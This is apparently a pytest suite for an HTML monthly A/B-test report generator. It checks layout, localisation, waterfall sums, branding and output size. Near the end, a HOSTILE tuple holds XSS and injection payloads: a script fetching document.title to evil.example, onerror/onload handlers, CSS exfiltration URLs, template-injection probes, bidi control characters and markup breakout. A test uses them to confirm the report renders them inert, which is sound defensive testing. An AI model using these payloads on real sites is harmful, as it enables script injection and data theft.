"""Every kind of month: what its report says, in every language, small, quick, and inert whatever anybody wrote."""

from __future__ import annotations

import itertools
import re
import time
from pathlib import Path

import msgspec
import pytest

import reports
from edgeloop.store.freeze import Freeze, Look
from edgeloop.store.rows import Bar
from reports.findings import Findings
from reports.language import LANGUAGES
from tests import report_months
from tests.report_fixture import analysed, at, write
from tests.test_report import ORDER, Page

NAMES = list(report_months.MONTHS)


@pytest.fixture(scope="module")
def months(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Freeze]:
    folder = tmp_path_factory.mktemp("months")
    return {name: make(folder / name.replace(" ", "-")) for name, make in report_months.MONTHS.items()}


def said(freeze: Freeze) -> Findings:
    return reports.build(freeze, analysed(freeze))


@pytest.mark.parametrize("name", NAMES)
def test_page_of_a_month(months: dict[str, Freeze], name: str) -> None:
    freeze = months[name]
    analysis = analysed(freeze)
    begin = time.process_time()
    findings = reports.build(freeze, analysis)
    html = reports.render(findings)
    assert time.process_time() - begin < 2
    assert len(html.encode()) < 300_000
    page = Page(html)
    assert [attrs["id"] for attrs in page.all("section")] == ORDER
    ids = [attrs["id"] for _, attrs in page.tags if "id" in attrs]
    assert len(ids) == len(set(ids))
    beside = {"2026-03.csv.zip", "2026-03.json"}
    assert all((attrs["href"] or "").removeprefix("#") in {*ids, *beside} for attrs in page.all("a"))
    assert len(findings.title.split()) <= 10
    assert not {"nan", "inf", "NaT"} & set(re.findall(r"\w+", page.text))
    assert reports.render(reports.build(freeze, analysed(freeze))) == html, "same freeze, same bytes"


@pytest.mark.parametrize("name", NAMES)
def test_figures_alone_are_those_of_the_whole(months: dict[str, Freeze], name: str) -> None:
    whole, alone = analysed(months[name]), analysed(months[name], figures_alone=True)
    assert alone.estimates == [e for e in whole.estimates if e.dimension == "all"]
    assert alone.changes == whole.changes
    assert (alone.bridge, alone.checks, alone.words, alone.counted) == ([], [], None, [])


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_month_in_every_language(months: dict[str, Freeze], tmp_path: Path, language: str) -> None:
    """Catalogues may lag behind the texts; numbers, dates and the page's own language never do."""
    freeze = write(
        tmp_path / "f",
        {table: months["everything"].frame(table) for table in months["everything"].manifest.tables},
        metrics=months["everything"].manifest.metrics,
        look=Look(locale=language),
    )
    findings = said(freeze)
    html = reports.render(findings)
    assert f'<html lang="{language}" dir="ltr">' in html
    month = {"en": "March 2026", "de": "März 2026", "fr": "mars 2026", "pt": "março de 2026"}[language]
    assert findings.month == month
    conversion = findings.strip[0].this
    assert re.fullmatch(r"\d\.\d\d\u00a0%" if language == "en" else r"\d,\d\d\u00a0?%", conversion), conversion
    assert reports.render(said(freeze)) == html


def test_the_printed_bridge_sums(months: dict[str, Freeze]) -> None:
    bars = said(months["everything"]).bridge.bars
    assert [b.kind for b in bars][:4] == ["figure", "late", "figure", "calendar"]
    assert bars[-2].kind == "unexplained"

    def printed(text: str) -> int:
        return round(float(text.replace("−", "-").replace("+", "").split("\u00a0")[0]) * 100)

    totals = [printed(b.shown) for b in bars if b.kind == "figure"]
    steps = [printed(b.shown) for b in bars if b.kind not in ("figure", "late")]
    assert totals[1] + sum(steps) == totals[2]
    assert totals[0] + printed(bars[1].shown) == totals[1]
    for one, other in itertools.pairwise(bars):
        assert one.end == other.start, "the waterfall falls where the bar before ended"


def test_a_bar_that_was_not_drawn_is_hatched(months: dict[str, Freeze]) -> None:
    analysis = analysed(months["everything"])
    switch = next(c for c in analysis.changes if c.kind == "switch")
    more = Bar(
        freeze_id="f", month="2026-03", metric="conversion", bar="version", change_id=switch.change_id, value=0.004
    )
    analysis.bridge.insert(-4, more)
    findings = reports.build(months["everything"], analysis)
    assert {b.label: b.hatched for b in findings.bridge.bars if b.kind == "version"}[f"“{switch.title}”"]
    assert "Hatched: not assigned at random" in " ".join(findings.bridge.notes)
    assert "url(#fall-" in reports.render(findings)


def test_the_page_says_from_when_on_new_and_returning_customers_can_be_told(months: dict[str, Freeze]) -> None:
    freeze = Freeze(months["everything"].path)
    kind = "New and returning customers"
    assert not any(kind in note for note in said(freeze).bridge.notes)
    freeze.manifest = msgspec.structs.replace(freeze.manifest, begins_us=at(1, 20, 23))
    (note,) = (note for note in said(freeze).bridge.notes if kind in note)
    assert note == (
        "New and returning customers are not told apart: the data begin on 21 January 2026, "
        "less than 28 days before February 2026."
    )
    assert note in Page(reports.render(said(freeze))).text


def test_everything_says_everything(months: dict[str, Freeze]) -> None:
    findings = said(months["everything"])
    text = Page(reports.render(findings)).text
    assert findings.title == "Roll back “Bigger promotion card”; promote “One-tap rebooking”"
    for sentence in (
        "Still open",
        "Slot rebooked differs by zone",
        "wears off from week to week",
        "guardrail: within its limit",
        "EUR more per 10,000 customers",
        "answered",
        "Weighted to everybody who entered; unweighted",
        "If other people answer in one version than in the other: between",
        "Undone only if those who met the new version and stayed silent would score",
        "By version entered: the fair comparison",
        "2 changes are asked to be promoted, and not promoted yet: they would add up to",
        "February 2026, as reported then",
        "Everybody changed at once",
        "95 of 100 messages reached the edge within",
        "more checks found nothing",
    ):
        assert sentence in text, sentence
    assert findings.strip[2].this.startswith("5") or not findings.strip[2].this.startswith("0 of"), "answers are used"


def test_a_month_under_repair_says_nothing_of_effects(months: dict[str, Freeze]) -> None:
    findings = said(months["under repair"])
    assert {d.verdict for d in findings.decisions} == {"repair the data first"}
    text = Page(reports.render(findings)).text
    assert "not shared out over the versions as planned" in text
    assert "can be joined to an exposure" in text
    assert not re.search(r"\b(lifted|lowered|was followed by)\b", text)


def test_a_first_month_has_nothing_to_compare_with(months: dict[str, Freeze]) -> None:
    findings = said(months["first month"])
    assert findings.bridge.bars == ()
    assert findings.bridge.summary.startswith("There is no bridge from February 2026")
    assert findings.open_tests[0].left != "decide now"


def test_agents_only(months: dict[str, Freeze]) -> None:
    customers, agents = said(months["agents only"]).voices
    assert customers.response == "No answers from customers arrived this month."
    assert agents.questions[0].n == "40"


HOSTILE = (
    "<script>fetch('//evil.example/'+document.title)</script><img src=x onerror=alert(2)>",
    '<svg onload=alert(3)><style>*{display:none}</style></svg><link rel=stylesheet href="//evil.example/x.css">',
    "}</style><style>body{background:url(//evil.example/y)}</style>",
    "{{ 7 * 7 }} {% for x in range(9) %}{{ f.freeze_id }}{% endfor %} ${7*7} #{7*7}",
    "before \u202e\u2066reversed\u2067 after \u200f\u061c end \ufeff",
    "Z\u0300\u0301\u0302\u0303\u0304" * 40 + " tall letters that climb over the lines above",
    "&lt;b&gt; </td></table></section><h1>owned</h1><!-- --><base href=//evil.example/>",
)


def hostile(folder: Path) -> Freeze:
    """A month in which everybody who could write something wrote the worst."""
    r = report_months.Rollout(
        "promo-card", HOSTILE[0], {"slot_rebooked": (0.10, 0.2), HOSTILE[2]: (0.1, 0.2)}, owner=HOSTILE[1],
        csat=(4.0, 3.3), new="2.1" + HOSTILE[6], old=HOSTILE[4],
    )  # fmt: skip
    remarks = {i + 1: text + " " + "word " * 20_000 for i, text in enumerate(HOSTILE[:5])}
    world = report_months.World((r,), people=1_500, zones=("a", HOSTILE[6]), touchpoint=HOSTILE[3], remarks=remarks)
    tables = report_months.frames(world, 3)
    tables["answers"]["survey_id"] = HOSTILE[6]
    tables["answers"].loc[tables["answers"]["kind"] == "text", "text"] = [
        (HOSTILE[i % len(HOSTILE)] + " " + "x" * 100_000) for i in range((tables["answers"]["kind"] == "text").sum())
    ]
    return write(folder, tables, company=HOSTILE[5], counts={f"dead_letters:{HOSTILE[6]}": 3})


def test_hostile_text_is_inert_and_bounded(tmp_path: Path) -> None:
    findings = said(hostile(tmp_path / "hostile"))
    html = reports.render(findings)
    assert len(html.encode()) < 300_000
    page = Page(html)
    assert not {"script", "img", "link", "iframe", "object", "base", "form"} & {tag for tag, _ in page.tags}
    assert len(page.all("h1")) == len(page.all("style")) == 1
    assert not any(name.startswith("on") or name == "style" for _, attrs in page.tags for name in attrs)
    assert "{{ 7 * 7 }}" in page.text or "fetch(" in page.text
    assert not set("\u202e\u2066\u2067\u200f\u061c\ufeff") & set(html)
    assert not re.search(r"[\u0300-\u036f]{3}", html)
    assert "x" * 300 not in html
    assert max(len(quote.text) for v in findings.voices for quote in v.quotes) <= 200


def test_brand_and_logo(tmp_path: Path) -> None:
    logo = "data:image/svg+xml;base64,PHN2Zy8+"
    freeze = write(tmp_path / "f", {}, look=Look(brand_name="Kiebitz Post", brand_colour="#ffd800", logo=logo))
    html = reports.render(said(freeze))
    page = Page(html)
    assert page.all("img") == [{"class": "logo", "src": logo, "alt": ""}]
    policy = next(a["content"] for a in page.all("meta") if a.get("http-equiv") == "Content-Security-Policy") or ""
    assert "img-src data:;" in policy
    assert "Kiebitz Post" in page.text
    assert "Finch Parcels" not in page.text
    assert "#ffd800" not in html.split("@media")[0], "yellow on white cannot be read"
    assert "--brand:#ffd800" in html, "on dark paper it can"
    findings = msgspec.structs.replace(said(freeze), brand=said(write(tmp_path / "g", {})).brand)
    assert "img-src" not in reports.render(findings)


def test_since_decides_how_far_lines_go(months: dict[str, Freeze]) -> None:
    findings = said(months["everything"])
    assert findings.strip[0].weeks[0].day == "1 Feb"
    assert findings.strip_note.startswith("Lines run by week from 1 February 2026:")
    longer = write(
        months["everything"].path.parent / "longer",
        {table: months["everything"].frame(table) for table in months["everything"].manifest.tables},
        metrics=months["everything"].manifest.metrics,
        since_us=at(1, 1) - 3_600_000_000,
    )
    assert said(longer).strip[0].weeks[0].day == "1 Jan"
    assert said(longer).strip_note.startswith("Lines run by week from 1 January 2026:")


def test_a_stop_does_not_praise_what_is_only_watched(months: dict[str, Freeze]) -> None:
    stopped = [d for d in said(months["names"]).decisions if d.verdict in ("keep testing", "not shown")]
    assert stopped
    assert not any("lifted" in d.why or "clear; that" in d.sure for d in stopped)
